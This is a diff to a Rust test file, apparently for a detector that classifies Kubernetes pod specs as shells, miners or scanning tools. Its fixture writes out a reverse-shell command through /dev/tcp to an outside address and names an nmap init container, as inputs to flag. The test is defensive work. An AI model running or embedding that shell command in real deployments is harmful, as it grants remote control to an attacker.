@@ -177,7 +177,7 @@ fn padding_neither_grows_the_tree_nor_hides_what_follows() {
 }
 
 #[test]
-fn what_commands_and_images_look_like_is_said_and_not_kept() {
+fn what_commands_look_like_is_said_and_not_kept() {
     let pod = |spec: &str| facts("create", "pods", &format!(r#"{{"spec":{spec}}}"#)).unwrap().pod.unwrap();
     let shell =
         pod(r#"{"containers":[{"image":"busybox","command":["sh","-c"],"args":["sh -i >& /dev/tcp/192.0.2.1/9"]}]}"#);
@@ -186,7 +186,7 @@ fn what_commands_and_images_look_like_is_said_and_not_kept() {
     assert!(miner.miner && miner.root && !miner.shell);
     assert!(pod(r#"{"initContainers":[{"name":"nmap-7"}],"shareProcessNamespace":true}"#).tool);
     let plain = pod(r#"{"containers":[{"name":"inmapper","image":"x/web","securityContext":{"runAsUser":1000}}]}"#);
-    assert_eq!(plain, PodFacts { containers: true, ..PodFacts::default() });
+    assert_eq!(plain, PodFacts { containers: true, image: "x/web".into(), ..PodFacts::default() });
 }
 
 #[test]
